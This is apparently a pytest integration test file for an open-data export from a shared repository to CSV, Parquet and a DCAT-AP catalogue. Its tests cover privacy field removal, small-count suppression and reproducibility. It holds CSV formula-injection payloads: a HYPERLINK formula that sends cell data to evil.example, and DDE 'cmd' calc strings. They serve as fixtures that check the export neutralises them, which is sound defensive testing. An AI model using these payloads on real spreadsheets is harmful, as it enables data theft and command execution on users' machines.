"""Open-data export from a shared repository on PostgreSQL and on SQLite."""

from __future__ import annotations

import copy
import csv
import dataclasses
import hashlib
import io
import json
import sys
import uuid
from collections import Counter
from collections.abc import Iterator
from datetime import UTC, datetime
from pathlib import Path
from typing import Any

import pyarrow.parquet as pq
import pytest
import sqlalchemy as sa
from rdflib import URIRef
from rdflib.namespace import RDF

from schemas.catalog import DATASETS, Dataset, get_dataset
from sinks.open_data import CATALOG_FILE, ExportReport, export_open_data
from sinks.shared_repo import SharedRepoSink, create_repo_engine

sys.path.insert(0, str(Path(__file__).parents[1]))
from standards import (
    DCAT_AP,
    DCAT_AP_MANDATORY,
    DCAT_AP_RECOMMENDED,
    jsonld_graph,
    shacl_results,
)
from std_samples import SIMULATED, sink_records, std_events

pytestmark = pytest.mark.integration

NOW = datetime(2025, 10, 16, 3, 0, tzinfo=UTC)
PUBLIC = sorted(d.id for d in DATASETS.values() if d.classification == "public")
TEACHERS = get_dataset("education.teachers")
SCHOOLS = get_dataset("education.schools")
# a restricted dataset marked public by mistake: its personal fields must still go
CATALOG: dict[str, Dataset] = {
    **DATASETS,
    TEACHERS.id: dataclasses.replace(TEACHERS, classification="public"),
}


def _deleted_schools() -> list[dict[str, Any]]:
    events = std_events(SCHOOLS.id)
    out: list[dict[str, Any]] = []
    for ev in events[:3]:
        d = copy.deepcopy(ev)
        d.update(op="d", before=ev["after"], after=None, event_id=uuid.UUID(int=7 + len(out)))
        d["source"]["version"] = ev["source"]["version"] + 10
        out.append(d)
    return out


# Text a source system let through that a spreadsheet would run as a formula (OWASP).
HOSTILE = {
    "school_name": '=HYPERLINK("http://evil.example/?"&A1,"Xem điểm")',
    "address": "+cmd|' /C calc'!A0",
    "email": "@SUM(1+1)*cmd|' /C calc'!A0",
}
FORMULA_START = ("=", "+", "-", "@", "\t", "\r")


def _hostile_schools() -> list[dict[str, Any]]:
    """Updates of three live schools whose text fields hold formulas."""
    events = std_events(SCHOOLS.id)
    out: list[dict[str, Any]] = []
    for ev in events[10:13]:
        d = copy.deepcopy(ev)
        d.update(op="u", before=ev["after"], event_id=uuid.UUID(int=100 + len(out)))
        d["after"] = {**ev["after"], **HOSTILE}
        d["source"]["version"] = ev["source"]["version"] + 10
        out.append(d)
    return out


def _fill(engine: sa.Engine, db_schema: str | None) -> None:
    sink = SharedRepoSink(engine, db_schema=db_schema)
    sink.setup()
    for dataset_id in SIMULATED:
        assert sink.write(sink_records(dataset_id, std_events(dataset_id))) == []
    assert sink.write(sink_records(SCHOOLS.id, _deleted_schools())) == []
    assert sink.write(sink_records(SCHOOLS.id, _hostile_schools())) == []


@pytest.fixture(scope="module")
def sqlite_repo(tmp_path_factory: pytest.TempPathFactory) -> Iterator[sa.Engine]:
    engine = create_repo_engine(f"sqlite:///{tmp_path_factory.mktemp('od') / 'repo.db'}")
    _fill(engine, None)
    yield engine
    engine.dispose()


@pytest.fixture(scope="module")
def pg_repo(postgres_url: str) -> Iterator[tuple[sa.Engine, str]]:
    schema = f"t_open_data_{uuid.uuid4().hex[:10]}"
    engine = create_repo_engine(postgres_url)
    try:
        _fill(engine, schema)
        yield engine, schema
    finally:
        with engine.begin() as conn:
            conn.exec_driver_sql(f'DROP SCHEMA IF EXISTS "{schema}" CASCADE')
        engine.dispose()


@pytest.fixture(params=["sqlite", "postgresql"])
def repo(request: pytest.FixtureRequest) -> tuple[sa.Engine, str | None]:
    if request.param == "sqlite":
        return request.getfixturevalue("sqlite_repo"), None
    engine, schema = request.getfixturevalue("pg_repo")
    return engine, schema


def _export(repo: tuple[sa.Engine, str | None], out: Path, **kw: Any) -> ExportReport:
    engine, schema = repo
    return export_open_data(engine, out, now=NOW, db_schema=schema, **kw)


def _dataset_of(file_name: str) -> str:
    return file_name.rsplit(".", 1)[0].removesuffix(".by_commune").removesuffix(".by_province")


def _read_csv(path: Path) -> list[dict[str, str]]:
    """As a spreadsheet user gets it: UTF-8 behind its BOM, RFC 4180."""
    return list(csv.DictReader(io.StringIO(path.read_text(encoding="utf-8-sig"), newline="")))


def test_only_public_datasets_are_exported(
    repo: tuple[sa.Engine, str | None], tmp_path: Path
) -> None:
    report = _export(repo, tmp_path)
    assert [d.dataset_id for d in report.datasets] == PUBLIC
    names = {p.name for p in tmp_path.iterdir()}
    expected = {CATALOG_FILE}
    for d in report.datasets:
        expected |= {f.name for f in d.files}
    assert names == expected
    assert {_dataset_of(n) for n in names - {CATALOG_FILE}} == set(PUBLIC)
    # rows: the current, not deleted, entities; bookkeeping columns left out
    schools = _read_csv(tmp_path / "education.schools.csv")
    live = {e["after"]["school_id"] for e in std_events(SCHOOLS.id)}
    gone = {e["before"]["school_id"] for e in _deleted_schools()}
    assert {r["school_id"] for r in schools} == live - gone
    assert not any(c.startswith("_") for c in schools[0])
    assert [r["school_id"] for r in schools] == sorted(r["school_id"] for r in schools)
    table = pq.read_table(tmp_path / "education.schools.parquet")
    assert table.column_names == list(schools[0])
    assert table.num_rows == len(schools)


def test_personal_fields_never_reach_a_file(
    repo: tuple[sa.Engine, str | None], tmp_path: Path
) -> None:
    report = _export(repo, tmp_path, catalog=CATALOG)
    teachers = next(d for d in report.datasets if d.dataset_id == TEACHERS.id)
    assert set(teachers.dropped) == set(TEACHERS.personal_fields)
    events = std_events(TEACHERS.id)
    secrets = {e["after"]["citizen_id"] for e in events} | {e["after"]["full_name"] for e in events}
    for path in tmp_path.iterdir():
        if path.suffix == ".parquet":
            table = pq.read_table(path)
            assert not set(table.column_names) & set(TEACHERS.personal_fields)
            text = json.dumps(table.to_pylist(), default=str, ensure_ascii=False)
        else:
            text = path.read_text(encoding="utf-8")
        assert not any(s in text for s in secrets), path.name
    header = _read_csv(tmp_path / "education.teachers.csv")[0]
    assert not set(header) & set(TEACHERS.personal_fields)
    assert "teacher_id" in header


def test_small_counts_are_suppressed_at_the_finest_level_that_says_something(
    repo: tuple[sa.Engine, str | None], tmp_path: Path
) -> None:
    """On the simulators' data: schools per commune (most cells suppressed, not all);
    health facilities, where every commune has fewer than 5, for the province."""
    report = _export(repo, tmp_path)
    levels = {d.dataset_id: d.aggregate_level for d in report.datasets}
    assert levels["education.schools"] == "commune"
    assert levels["health.facilities"] == "province"
    assert not (tmp_path / "health.facilities.by_commune.csv").exists()
    for stem, level in levels.items():
        if level is None:
            continue
        rows = _read_csv(tmp_path / f"{stem}.csv")
        if level == "commune":
            truth = Counter(r["commune_code"] for r in rows)
            assert max(truth.values()) >= 5
        else:
            assert max(Counter(r["commune_code"] for r in rows).values()) < 5
            truth = Counter({"75": len(rows)})
        cells = _read_csv(tmp_path / f"{stem}.by_{level}.csv")
        assert list(cells[0]) == [f"{level}_code", f"{level}_name", "count", "suppressed"]
        assert [c[f"{level}_code"] for c in cells] == sorted(truth)
        assert all(c[f"{level}_name"] for c in cells)
        for cell in cells:
            n = truth[cell[f"{level}_code"]]
            if n < 5:
                assert (cell["count"], cell["suppressed"]) == ("", "true")
            else:
                assert (cell["count"], cell["suppressed"]) == (str(n), "false")
        # never 100 % suppressed: something is published
        assert any(c["suppressed"] == "false" for c in cells), stem
        parquet = pq.read_table(tmp_path / f"{stem}.by_{level}.parquet").to_pylist()
        assert all(p["count"] is None or p["count"] >= 5 for p in parquet)
        exported = next(d for d in report.datasets if d.dataset_id == stem)
        assert exported.suppressed_cells == sum(1 for c in cells if c["suppressed"] == "true")
    # the catalogue says why the facilities are counted for the province
    doc = json.loads((tmp_path / CATALOG_FILE).read_text(encoding="utf-8"))
    by_id = {d["dct:identifier"]: d for d in doc["dcat:dataset"]}
    description = {
        t["@language"]: t["@value"]
        for t in by_id["health.facilities.by_province"]["dct:description"]
    }
    assert "Every per-commune count was below 5" in description["en"]
    assert "cấp tỉnh" in description["vi"]


def test_csv_files_are_safe_and_readable_in_a_spreadsheet(
    repo: tuple[sa.Engine, str | None], tmp_path: Path
) -> None:
    _export(repo, tmp_path)
    csv_files = sorted(tmp_path.glob("*.csv"))
    assert csv_files
    for path in csv_files:
        data = path.read_bytes()
        assert data.startswith(b"\xef\xbb\xbf"), path.name  # UTF-8 BOM: Excel reads it
        assert b"\r\n" in data and b"\n" not in data.replace(b"\r\n", b"")
        rows = _read_csv(path)
        assert rows, path.name
        # internal quality fields never reach a public file
        assert not {"quality_flags", "commune_code_source"} & set(rows[0]), path.name
        for row in rows:
            for column, cell in row.items():
                assert not cell.startswith(FORMULA_START), (path.name, column, cell)
    schools = {r["school_id"]: r for r in _read_csv(tmp_path / "education.schools.csv")}
    hostile = [s for s in schools.values() if s["school_name"] == "'" + HOSTILE["school_name"]]
    assert len(hostile) == 3
    for school in hostile:
        assert school["address"] == "'" + HOSTILE["address"]
        assert school["email"] == "'" + HOSTILE["email"]
    assert any("ư" in s["school_name"] for s in schools.values())  # Vietnamese, not mojibake
    # Parquet keeps the values as they are: it is read by programs, not spreadsheets
    table = pq.read_table(tmp_path / "education.schools.parquet").to_pylist()
    assert sum(1 for r in table if r["school_name"] == HOSTILE["school_name"]) == 3
    assert "quality_flags" not in table[0]


def test_export_is_reproducible_byte_for_byte(
    repo: tuple[sa.Engine, str | None], tmp_path: Path
) -> None:
    first = _export(repo, tmp_path / "a")
    second = export_open_data(
        repo[0], tmp_path / "b", now=datetime(2030, 1, 1, tzinfo=UTC), db_schema=repo[1]
    )
    assert first.files == second.files
    for f in first.files:
        assert (tmp_path / "a" / f.name).read_bytes() == (tmp_path / "b" / f.name).read_bytes()


def test_postgresql_and_sqlite_exports_are_identical(
    sqlite_repo: sa.Engine, pg_repo: tuple[sa.Engine, str], tmp_path: Path
) -> None:
    lite = _export((sqlite_repo, None), tmp_path / "sqlite")
    pg = _export(pg_repo, tmp_path / "pg")
    assert lite.files == pg.files


def test_dcat_catalog_describes_the_files(
    repo: tuple[sa.Engine, str | None], tmp_path: Path
) -> None:
    base = "https://data.example.gov.vn/open/"
    report = _export(repo, tmp_path, base_uri=base)
    doc = json.loads((tmp_path / CATALOG_FILE).read_text(encoding="utf-8"))
    assert doc["@type"] == "dcat:Catalog"
    assert {"dcat", "dct", "spdx"} <= set(doc["@context"])
    datasets = {d["dct:identifier"]: d for d in doc["dcat:dataset"]}
    assert set(PUBLIC) <= set(datasets)
    assert {"education.schools.by_commune", "health.facilities.by_province"} <= set(datasets)
    files = {p.name: p.read_bytes() for p in tmp_path.iterdir() if p.name != CATALOG_FILE}
    described = set()
    for ident, d in datasets.items():
        assert d["@type"] == "dcat:Dataset"
        assert {t["@language"] for t in d["dct:title"]} == {"vi", "en"}
        assert d["dct:publisher"]["foaf:name"]["@value"]
        assert d["dct:modified"]["@type"] == "xsd:dateTime"
        assert d["dct:license"]["@id"].startswith("https://")
        for dist in d["dcat:distribution"]:
            url = dist["dcat:downloadURL"]["@id"]
            assert url.startswith(base)
            name = url.removeprefix(base)
            data = files[name]
            described.add(name)
            assert dist["dcat:byteSize"]["@value"] == str(len(data))
            checksum = dist["spdx:checksum"]["spdx:checksumValue"]
            assert checksum == {
                "@value": hashlib.sha256(data).hexdigest(),
                "@type": "xsd:hexBinary",
            }
            media = dist["dcat:mediaType"]["@id"]
            assert media.endswith("text/csv" if name.endswith(".csv") else "vnd.apache.parquet")
        assert _dataset_of(ident + ".x") in PUBLIC
    assert described == set(files)
    schools = datasets["education.schools"]
    assert schools["dct:publisher"]["foaf:name"]["@value"] == "Sở Giáo dục và Đào tạo"
    assert (
        report.catalog.sha256 == hashlib.sha256((tmp_path / CATALOG_FILE).read_bytes()).hexdigest()
    )


@pytest.mark.skipif(
    not all((DCAT_AP / f).is_file() for f in (*DCAT_AP_MANDATORY, *DCAT_AP_RECOMMENDED)),
    reason=f"DCAT-AP 3.0.1 SHACL shapes not found in {DCAT_AP} (../shared/standards)",
)
def test_the_exported_catalogue_conforms_to_dcat_ap_3(
    repo: tuple[sa.Engine, str | None], tmp_path: Path
) -> None:
    """pyshacl against the DCAT-AP 3.0.1 shapes: no violation of the mandatory and range
    shapes, no warning of the recommended ones."""
    report = _export(repo, tmp_path, base_uri="https://data.example.gov.vn/open/")
    graph = jsonld_graph((tmp_path / CATALOG_FILE).read_text(encoding="utf-8"))
    dcat = "http://www.w3.org/ns/dcat#"
    datasets = set(graph.subjects(RDF.type, URIRef(dcat + "Dataset")))
    distributions = set(graph.subjects(RDF.type, URIRef(dcat + "Distribution")))
    assert len(datasets) == len(report.datasets) + 2  # + the two aggregates
    assert len(distributions) == len(report.files) - 1  # every file but the catalogue
    mandatory = shacl_results(graph, DCAT_AP_MANDATORY)
    assert mandatory == [], "\n".join(map(str, mandatory))
    recommended = shacl_results(graph, DCAT_AP_RECOMMENDED)
    assert recommended == [], "\n".join(map(str, recommended))


def test_a_scheduled_export_serves_its_health_endpoints(tmp_path: Path) -> None:
    """`databus opendata export --every N` runs for ever under `databus up`: it serves
    /livez and /readyz (ready while the shared repository answers) like every process."""
    import socket
    import subprocess
    import time
    import urllib.request

    from databus_cli import clean_env

    with socket.socket() as sock:
        sock.bind(("127.0.0.1", 0))
        port = sock.getsockname()[1]
    env = clean_env(tmp_path, DATABUS_METRICS__PORT=str(port))
    proc = subprocess.Popen(
        [sys.executable, "-m", "databus", "opendata", "export", "--every", "60"],
        cwd=tmp_path,
        env=env,
        stdout=subprocess.DEVNULL,
        stderr=subprocess.DEVNULL,
    )
    try:
        deadline = time.monotonic() + 60
        ready: dict[str, Any] | None = None
        while ready is None and time.monotonic() < deadline:
            assert proc.poll() is None, "the scheduled export exited"
            try:
                with urllib.request.urlopen(f"http://127.0.0.1:{port}/readyz", timeout=2) as r:
                    ready = json.load(r)
            except OSError:
                time.sleep(0.2)
        assert ready is not None, "no /readyz within 60 s"
        assert ready["status"] == "ready" and ready["checks"]["shared_repo"]["ok"], ready
        with urllib.request.urlopen(f"http://127.0.0.1:{port}/livez", timeout=2) as r:
            assert r.status == 200
    finally:
        proc.terminate()
        proc.wait(30)
